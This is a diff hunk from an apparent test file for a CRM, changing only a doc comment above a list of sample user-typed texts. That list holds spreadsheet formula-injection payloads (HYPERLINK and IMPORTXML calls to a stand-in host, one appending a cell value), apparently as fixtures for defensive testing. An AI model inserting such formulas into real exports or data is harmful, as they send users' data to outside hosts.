@@ -8,7 +8,7 @@ beforeAll(async () => {
 });
 afterAll(() => crm.stop());
 
-/** What people, or somebody else through a web form, may have typed into the CRM. */
+/** Holds what people, or somebody else through a web form, may have typed into the CRM. */
 const TEXTS = [
   '=HYPERLINK("https://x.example?"&A1;"Xem")',
   '=IMPORTXML("https://x.example","//a")',
